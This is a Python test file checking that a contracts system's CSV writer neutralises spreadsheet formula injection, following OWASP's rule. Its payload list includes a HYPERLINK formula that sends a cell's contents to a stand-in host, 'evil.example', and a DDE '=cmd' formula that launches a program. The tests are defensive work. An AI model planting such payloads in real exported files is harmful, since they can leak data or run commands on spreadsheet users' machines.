"""OWASP's CSV-injection rule, applied by every CSV the system writes (pacte_contracts.spreadsheet)."""

from __future__ import annotations

import csv
import io

import pytest

from pacte_contracts.spreadsheet import csv_text, safe_cell

#: The payloads of issue 18, and the other starts OWASP lists.
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1", "=1+1\n=2+2"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text(payload: str) -> None:
    text = csv_text(["a", "b"], [[payload, "ok"]])
    [header, row] = list(csv.reader(io.StringIO(text, newline="")))
    assert header == ["a", "b"] and row == ["'" + payload, "ok"]
    assert all(line.startswith('"') for line in text.splitlines() if line and not line.startswith(("=", "\r")))


@pytest.mark.parametrize("value", ["-12.5", "-3", "0.1250", "Lyon Numérique", "", "a=b", "T-1"])
def test_values_that_are_not_formulas_are_left_alone(value: str) -> None:
    assert safe_cell(value) == value


def test_numbers_stay_numbers_and_separators_cannot_open_a_cell() -> None:
    assert safe_cell(-5) == -5 and safe_cell(None) is None
    text = csv_text(["a"], [["x;=cmd|' /C calc'!A0"], ['say "=1+1"']])
    assert text == '"a"\n"x;=cmd|\' /C calc\'!A0"\n"say ""=1+1"""\n'
